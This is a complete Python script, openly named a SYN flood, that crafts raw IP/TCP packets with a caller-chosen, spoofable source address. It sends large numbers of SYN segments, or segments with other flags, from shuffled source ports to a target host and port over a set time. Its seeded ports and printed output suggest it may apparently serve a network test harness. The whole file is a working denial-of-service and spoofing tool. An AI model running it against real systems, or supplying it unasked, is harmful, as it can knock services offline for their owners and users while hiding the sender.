#!/usr/bin/env python3
"""SYN flood from distinct source ports through a raw socket (IP_HDRINCL). Usage:
  syn_flood.py SRC DST DPORT COUNT SECONDS SEED [FLAGS]

Sends COUNT TCP segments (SYN unless FLAGS, e.g. 0x11 for FIN+ACK, says otherwise) from SRC (each from a different source port, shuffled with SEED) to DST:DPORT,
spread over about SECONDS, with correct IP and TCP checksums. Prints "sent N" and, for a count of at
most 10, "ports P1 P2 ...".
"""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    src, dst, dport, count, seconds, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6])
    flags = int(sys.argv[7], 0) if len(sys.argv) > 7 else 0x02
    rnd = random.Random(seed)
    ports = list(range(1024, 65536))
    rnd.shuffle(ports)
    if count > len(ports):
        sys.exit(f"at most {len(ports)} distinct source ports")
    s_ip, d_ip = socket.inet_aton(src), socket.inet_aton(dst)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    for i in range(count):
        sport = ports[i]
        seq = rnd.getrandbits(32)
        # SYN with an MSS option, as a real client sends
        opts = struct.pack("!BBH", 2, 4, 1410) if flags & 0x02 else b""
        ack = rnd.getrandbits(32) if flags & 0x10 else 0
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (5 + len(opts) // 4) << 4, flags, 64240, 0, 0) + opts
        tc = csum(s_ip + d_ip + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", tc) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rnd.getrandbits(16), 0x4000, 64, 6, 0, s_ip, d_ip)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        sock.sendto(ip + tcp, (dst, 0))
        ahead = (i + 1) * seconds / count - (time.monotonic() - t0)
        if ahead > 0.001:
            time.sleep(ahead)
    print(f"sent {count} in {time.monotonic() - t0:.2f}s", flush=True)
    if count <= 10:
        print("ports " + " ".join(str(p) for p in ports[:count]), flush=True)


if __name__ == "__main__":
    main()
